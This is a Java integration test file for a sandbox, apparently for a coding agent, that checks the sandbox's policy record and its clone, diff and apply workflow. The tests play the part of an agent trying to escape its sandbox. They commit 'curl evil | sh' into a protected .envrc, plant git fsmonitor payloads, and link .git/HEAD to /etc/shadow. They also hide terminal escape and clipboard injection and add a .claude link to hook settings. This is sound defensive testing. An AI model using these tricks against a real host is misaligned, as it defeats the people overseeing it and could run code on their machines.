package dev.claudecage.it;

import com.fasterxml.jackson.databind.JsonNode;
import dev.claudecage.json.Json;
import dev.claudecage.net.AuditEvent;
import dev.claudecage.net.AuditLog;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static dev.claudecage.it.CageHarness.ROOTFS;
import static dev.claudecage.it.CageHarness.cage;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A session's policy record, and {@code start --clone} with {@code diff} and {@code apply}: the
 * agent commits inside a real cage (the cli image, which has git) on a copy, and its commits come
 * back into the original as the original's owner, or are refused with a reason.
 */
class SessionWorkspaceIT {


    /** This class's sessions: only these are destroyed and looked for, as other tests share the host. */
    private static final List<String> MINE = List.of("it-policy", "it-crash", "it-reach", "it-clone", "it-sneak",
            "it-nested", "it-hostile");

    @BeforeEach
    void requireHost() throws Exception {
        CageHarness.requireRootAndRootfs();
        CageHarness.destroySessions(MINE);
        assertEquals(List.of(), CageHarness.sessionLeftoversOf(MINE), "the host holds leftovers of this test's sessions");
    }

    @AfterEach
    void nothingLeftBehind() throws Exception {
        CageHarness.destroySessions(MINE);
        assertEquals(List.of(), CageHarness.sessionLeftoversOf(MINE), "the sessions left something behind");
    }

    @Test
    void theSessionRecordsItsPolicyWhereTheCageCannotReachIt(@TempDir Path workspace) throws Exception {
        Files.setPosixFilePermissions(workspace, PosixFilePermissions.fromString("rwxrwxrwx"));
        // The cage's own ids own it, as a checkout of host uid 1000 would be: never root's (issue 14, attack 4).
        Files.setAttribute(workspace, "unix:uid", 1000);
        Files.setAttribute(workspace, "unix:gid", 1000);
        CageHarness.Result start = cage("start", "--detach", "--name", "it-policy", "--rootfs", ROOTFS.toString(),
                "--network", "none", "--mount", workspace + ":/workspace", "--", "sleep", "300");
        assertEquals(0, start.exitCode(), start.toString());

        JsonNode status = SessionLifecycleIT.status("it-policy");
        JsonNode policy = status.path("policy");
        assertTrue(policy.path("sha256").asText().matches("[0-9a-f]{64}"), status.toString());
        assertTrue(status.path("policyIntact").asBoolean(), status.toString());
        assertEquals(status.path("containerId").asText(), policy.path("containerId").asText());
        assertEquals(ROOTFS.toString(), policy.path("policy").path("rootfs").asText());
        assertEquals(".envrc", policy.path("policy").path("protectedPaths").get(10).asText(), status.toString());
        assertEquals("api.anthropic.com", policy.path("policy").path("allowedHosts").get(0).asText());
        assertTrue(policy.path("policy").path("mounts").toString()
                .contains(workspace.resolve(".envrc") + ":/workspace/.envrc:ro (protected)"), status.toString());
        CageHarness.Result text = cage("status", "it-policy");
        assertTrue(text.stdout().contains("policy:         sha256:" + policy.path("sha256").asText()), text.toString());

        Path policyFile = CageHarness.SESSION_DATA.resolve("it-policy/policy.json");
        CageHarness.Result look = cage("shell", "it-policy", "--", "sh", "-c",
                "grep -c claude-cage/sessions /proc/self/mountinfo; cat " + policyFile + " 2>&1; "
                        + "find / -xdev -name policy.json 2>/dev/null | wc -l");
        assertEquals("1\ncat: " + policyFile + ": No such file or directory\n0\n", look.stdout(),
                "the cage sees its home from the session folder, and nothing else of it: " + look);

        // Tampering on the host shows: the hash no longer matches.
        Files.writeString(policyFile, Files.readString(policyFile).replace("api.anthropic.com", "evil.example"));
        assertFalse(SessionLifecycleIT.status("it-policy").path("policyIntact").asBoolean());
        assertTrue(cage("status", "it-policy").stdout().contains("ALTERED"));
        assertEquals(0, cage("destroy", "it-policy").exitCode());
    }

    @Test
    void placeholdersOfACrashedSessionGoWithItsCage(@TempDir Path workspace) throws Exception {
        Files.setPosixFilePermissions(workspace, PosixFilePermissions.fromString("rwxrwxrwx"));
        // The cage's own ids own it, as a checkout of host uid 1000 would be: never root's (issue 14, attack 4).
        Files.setAttribute(workspace, "unix:uid", 1000);
        Files.setAttribute(workspace, "unix:gid", 1000);
        assertEquals(0, cage("start", "--detach", "--name", "it-crash", "--rootfs", ROOTFS.toString(),
                "--network", "none", "--mount", workspace + ":/workspace", "--", "sleep", "300").exitCode());
        assertTrue(Files.isDirectory(workspace.resolve(".envrc")), "the placeholder holds .envrc while the cage runs");
        long supervisor = SessionLifecycleIT.status("it-crash").path("supervisorPid").asLong();

        assertEquals(0, new ProcessBuilder("kill", "-9", Long.toString(supervisor)).start().waitFor());
        long deadline = System.nanoTime() + 10_000_000_000L;
        while (ProcessHandle.of(supervisor).map(ProcessHandle::isAlive).orElse(false) && System.nanoTime() < deadline) {
            Thread.sleep(50);
        }
        assertTrue(Files.isDirectory(workspace.resolve(".envrc")), "kept while the crashed cage may still run");

        // destroy (like gc) removes the crashed cage first, then what it left, placeholders included.
        CageHarness.Result destroy = cage("destroy", "it-crash");
        assertEquals(0, destroy.exitCode(), destroy.toString());
        try (Stream<Path> left = Files.list(workspace)) {
            assertEquals(List.of(), left.toList(), "no placeholder left in the workspace");
        }
    }

    @Test
    void aWritableMountThatWouldReachTheSessionRecordsIsRefused() {
        CageHarness.Result refused = cage("start", "--detach", "--name", "it-reach", "--rootfs", ROOTFS.toString(),
                "--network", "none", "--mount", "/var/lib:/host-lib", "--", "true");
        assertEquals(2, refused.exitCode(), refused.toString());
        assertTrue(refused.stderr().contains("holds /var/lib/claude-cage, claude-cage's own state"), refused.toString());
    }

    @Test
    void cloneDiffAndApplyBringTheAgentsCommitsBack(@TempDir Path parent) throws Exception {
        CageHarness.requireCliImage();
        Path repo = Files.createDirectory(parent.resolve("repo"));
        git(repo, "init", "-q", "-b", "main");
        Files.writeString(repo.resolve("a.txt"), "one\n");
        git(repo, "add", "a.txt");
        git(repo, "commit", "-q", "-m", "first");
        HostFolders.ownByAUser(repo);

        CageHarness.Result start = cage("start", "--detach", "--clone", "--name", "it-clone", "--network", "none",
                "--mount", repo + ":/workspace", "--", "sleep", "300");
        assertEquals(0, start.exitCode(), start.toString());

        // Inside: the copy, not the original; commits work, the copy's git config does not.
        CageHarness.Result agent = cage("shell", "it-clone", "--", "sh", "-c", "cd /workspace && "
                + "grep -c '" + repo + "' /proc/self/mountinfo; git log --format=%s; "
                + "echo two >> a.txt && echo new > b.txt && git add -A && "
                + "git -c user.name=agent -c user.email=agent@cage commit -qm 'agent work' && git status --short; "
                + "git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null || echo config-refused; "
                + "echo draft > c.txt");
        assertEquals("0\nfirst\nconfig-refused\n", agent.stdout(), agent.toString());

        CageHarness.Result diff = cage("diff", "it-clone");
        assertEquals(0, diff.exitCode(), diff.toString());
        for (String expected : List.of("agent work", "+two", "b.txt", "# uncommitted changes", "+draft")) {
            assertTrue(diff.stdout().contains(expected), "missing '" + expected + "' in " + diff);
        }

        // A dirty original is refused, a clean one fast-forwarded, as its owner.
        Files.writeString(repo.resolve("a.txt"), "one\nmine\n");
        CageHarness.Result dirty = cage("apply", "it-clone");
        assertEquals(2, dirty.exitCode(), dirty.toString());
        assertTrue(dirty.stderr().contains("uncommitted changes"), dirty.toString());
        Files.writeString(repo.resolve("a.txt"), "one\n");
        CageHarness.Result applied = cage("apply", "it-clone");
        assertEquals(0, applied.exitCode(), applied.toString());
        assertTrue(applied.stdout().contains("applied 1 commit(s) to main"), applied.toString());
        assertEquals("agent work\nfirst\n", git(repo, "log", "--format=%s"));
        assertEquals("one\ntwo\n", Files.readString(repo.resolve("a.txt")));
        assertEquals(HostFolders.OWNER, Files.getAttribute(repo.resolve("b.txt"), "unix:uid"), "written as the repository's owner");
        assertEquals("", git(repo, "for-each-ref", "refs/claude-cage"), "no helper ref left");
        assertFalse(Files.exists(repo.resolve("c.txt")), "uncommitted work stays in the copy");

        // The original moves on and the agent commits again: diverged, refused.
        Files.writeString(repo.resolve("d.txt"), "host\n");
        git(repo, "add", "d.txt");
        git(repo, "commit", "-q", "-m", "host work");
        HostFolders.ownByAUser(repo);
        assertEquals(0, cage("shell", "it-clone", "--", "sh", "-c", "cd /workspace && git add -A && "
                + "git -c user.name=agent -c user.email=agent@cage commit -qm more").exitCode());
        CageHarness.Result diverged = cage("apply", "it-clone");
        assertEquals(2, diverged.exitCode(), diverged.toString());
        assertTrue(diverged.stderr().contains("has commits the session's copy does not"), diverged.toString());

        // Issue 18: at its stop, the session's evidence trail has the agent's commits, oldest first, and its files.
        assertEquals(0, cage("stop", "--timeout", "1", "it-clone").exitCode());
        List<AuditEvent> trail = AuditLog.read(CageHarness.SESSION_DATA.resolve("it-clone/logs/audit.jsonl"));
        List<String> commits = trail.stream().filter(event -> event.source().equals("commits"))
                .map(event -> event.decision() + " " + event.reason()).toList();
        assertEquals(2, commits.size(), trail.toString());
        assertTrue(commits.get(0).matches("committed commit [0-9a-f]{40} agent work"), commits.toString());
        assertTrue(commits.get(1).matches("committed commit [0-9a-f]{40} more"), commits.toString());
        assertTrue(trail.stream().anyMatch(event -> event.source().equals("files") && event.decision().equals("added")
                && event.reason().startsWith("/workspace/c.txt: sha256:")), trail.toString());

        assertEquals(0, cage("destroy", "it-clone").exitCode());
    }

    @Test
    void commitsThatTouchAProtectedPathAreNotApplied(@TempDir Path parent) throws Exception {
        CageHarness.requireCliImage();
        Path repo = Files.createDirectory(parent.resolve("repo"));
        git(repo, "init", "-q", "-b", "main");
        git(repo, "commit", "-q", "--allow-empty", "-m", "first");
        HostFolders.ownByAUser(repo);
        assertEquals(0, cage("start", "--detach", "--clone", "--name", "it-sneak", "--network", "none",
                "--mount", repo + ":/workspace", "--", "sleep", "300").exitCode());

        // The wall keeps .envrc from being created, but a commit can still name it without the file.
        CageHarness.Result agent = cage("shell", "it-sneak", "--", "sh", "-c", "cd /workspace && "
                + "touch .envrc 2>/dev/null || echo file-refused; "
                + "blob=$(echo 'curl evil | sh' | git hash-object -w --stdin) && "
                + "git update-index --add --cacheinfo 100644,$blob,.envrc && "
                + "git -c user.name=agent -c user.email=agent@cage commit -qm sneaky && echo committed");
        assertEquals("file-refused\ncommitted\n", agent.stdout(), agent.toString());

        CageHarness.Result refused = cage("apply", "it-sneak");
        assertEquals(2, refused.exitCode(), refused.toString());
        assertTrue(refused.stderr().contains(".envrc: protected"),
                refused.toString());
        assertFalse(Files.exists(repo.resolve(".envrc")));
        assertEquals("first\n", git(repo, "log", "--format=%s"));

        // A HEAD that points the host elsewhere is not followed: diff and apply stop and say why.
        assertEquals(0, cage("shell", "it-sneak", "--", "sh", "-c", "ln -sf /etc/shadow /workspace/.git/HEAD").exitCode());
        CageHarness.Result linked = cage("diff", "it-sneak");
        assertEquals(1, linked.exitCode(), linked.toString());
        assertTrue(linked.stderr().contains("HEAD as plain files inside its .git")
                && linked.stderr().contains("symbolic link is in the way"), linked.toString());
        assertEquals(0, cage("destroy", "it-sneak").exitCode());
    }

    /**
     * Attacks 2 and 5 of issue 14, end to end from a real cage. The agent commits a file whose lines
     * rewrite themselves on a terminal ({@code \r ESC[2K}) and set its clipboard (OSC 52), under a
     * subject with an escape, then a {@code .claude} that is a link to a folder of its own holding a
     * settings.json with hooks (which Claude Code on the host would run). diff shows the bytes
     * escaped, and as they are only with --unescaped; apply refuses the range and names the link.
     * Without the link commit (the control) the same range applies.
     */
    @Test
    void attacks2And5_diffEscapesTheCopysBytesAndApplyRefusesAClaudeLinkToHooks(@TempDir Path parent) throws Exception {
        CageHarness.requireCliImage();
        Path repo = Files.createDirectory(parent.resolve("repo"));
        git(repo, "init", "-q", "-b", "main");
        git(repo, "commit", "-q", "--allow-empty", "-m", "first");
        HostFolders.ownByAUser(repo);
        assertEquals(0, cage("start", "--detach", "--clone", "--name", "it-hostile", "--network", "none",
                "--mount", repo + ":/workspace", "--", "sleep", "300").exitCode());
        // The wall holds .claude as a folder in the cage, so the link goes into the index directly.
        CageHarness.Result agent = cage("shell", "it-hostile", "--", "sh", "-c", "set -e; cd /workspace; "
                + "C='git -c user.name=agent -c user.email=agent@cage'; "
                + "printf 'evil()\\r\\033[2K+print(1)\\n\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007\\n' > show.py; "
                + "git add show.py; $C commit -qm \"$(printf 'tidy\\033[8m hidden')\"; "
                + "mkdir -p tools/cc; echo '{\"hooks\": {\"SessionStart\": [{\"command\": \"id\"}]}}' > tools/cc/settings.json; "
                + "git add tools; git update-index --add --cacheinfo 120000,$(printf tools/cc | git hash-object -w --stdin),.claude; "
                + "$C commit -qm tools; echo done");
        assertEquals("done\n", agent.stdout(), agent.toString());

        CageHarness.Result diff = cage("diff", "it-hostile");
        assertEquals(0, diff.exitCode(), diff.toString());
        assertTrue(diff.stdout().contains("+evil()\\r\\x1b[2K+print(1)") && diff.stdout().contains("+\\x1b]52;c;")
                && diff.stdout().contains("tidy\\x1b[8m hidden"), diff.stdout());
        assertFalse(diff.stdout().contains("\u001b") || diff.stdout().contains("\r") || diff.stdout().contains("\u0007"),
                "raw control bytes reached the output: " + diff);
        assertTrue(diff.stderr().contains("shown escaped"), diff.toString());
        CageHarness.Result raw = cage("diff", "--unescaped", "it-hostile");
        assertTrue(raw.stdout().contains("+evil()\r\u001b[2K+print(1)\n+\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\n"),
                raw.toString());

        CageHarness.Result refused = cage("apply", "it-hostile");
        assertEquals(2, refused.exitCode(), refused.toString());
        assertTrue(refused.stderr().contains(".claude: a symbolic link"), refused.toString());
        assertEquals("first\n", git(repo, "log", "--format=%s"));
        assertFalse(Files.exists(repo.resolve(".claude"), java.nio.file.LinkOption.NOFOLLOW_LINKS));
        assertFalse(Files.exists(repo.resolve("tools")));

        // The control: the same range without the link commit applies.
        assertEquals(0, cage("shell", "it-hostile", "--", "sh", "-c", "cd /workspace && git reset -q HEAD~1").exitCode());
        CageHarness.Result applied = cage("apply", "it-hostile");
        assertEquals(0, applied.exitCode(), applied.toString());
        assertEquals("tidy\u001b[8m hidden\nfirst\n", git(repo, "log", "--format=%s"));
        assertFalse(Files.exists(repo.resolve(".claude"), java.nio.file.LinkOption.NOFOLLOW_LINKS));
        assertEquals(0, cage("destroy", "it-hostile").exitCode());
    }

    /**
     * The hole the workspace wall leaves: a repository the cage makes in a subfolder and registers in
     * the (writable) index as a submodule. status and stop name it; git status on the host would run
     * its core.fsmonitor, which this test shows with a payload that only makes a file. The quiet
     * repository beside it, which runs nothing, is the control: it is not named.
     */
    @Test
    void aRepositoryTheCageNestsInTheWorkspaceIsNamedByStatusAndStop(@TempDir Path parent) throws Exception {
        CageHarness.requireCliImage();
        Path repo = Files.createDirectory(parent.resolve("repo"));
        git(repo, "init", "-q", "-b", "main");
        git(repo, "commit", "-q", "--allow-empty", "-m", "first");
        HostFolders.ownByAUser(repo);
        CageHarness.Result start = cage("start", "--detach", "--name", "it-nested", "--network", "none",
                "--mount", repo + ":/workspace", "--", "sleep", "300");
        assertEquals(0, start.exitCode(), start.toString());
        CageHarness.Result agent = cage("shell", "it-nested", "--", "sh", "-c", "set -e; cd /workspace; "
                + "git init -q sub; git -C sub -c user.name=a -c user.email=a@cage commit -q --allow-empty -m s; "
                + "git -C sub config core.fsmonitor 'touch fsmonitor-ran; false'; "
                + "git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub; "
                + "git init -q quiet; echo done");
        assertEquals("done\n", agent.stdout(), agent.toString());

        CageHarness.Result status = cage("status", "it-nested");
        assertTrue(status.stdout().contains("WARNING") && status.stdout().contains(repo.resolve("sub").toString())
                && status.stdout().contains("core.fsmonitor"), status.toString());
        assertFalse(status.stdout().contains(repo.resolve("quiet").toString()), "the quiet repository runs nothing: " + status);
        JsonNode json = Json.mapper().readTree(cage("status", "--json", "it-nested").stdout());
        assertEquals(1, json.path("workspaceWarnings").size(), json.toString());
        CageHarness.Result stop = cage("stop", "--timeout", "1", "it-nested");
        assertEquals(0, stop.exitCode(), stop.toString());
        assertTrue(stop.stderr().contains("warning: a git repository at " + repo.resolve("sub")), stop.toString());

        // Why it is named: git status in the repository around it runs the nested one's fsmonitor.
        assertFalse(Files.exists(repo.resolve("sub/fsmonitor-ran")));
        git(repo, "status");
        assertTrue(Files.exists(repo.resolve("sub/fsmonitor-ran")), "git status did not run the nested fsmonitor");
        assertEquals(0, cage("destroy", "it-nested").exitCode());
    }

    /** git on the test's own repository, as root (the test made it). */
    static String git(Path repo, String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of("git", "-c", "safe.directory=*", "-c", "user.name=user",
                "-c", "user.email=user@host", "-C", repo.toString()));
        command.addAll(List.of(args));
        Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
        String output = new String(process.getInputStream().readAllBytes());
        assertEquals(0, process.waitFor(), String.join(" ", command) + ": " + output);
        return output;
    }
}
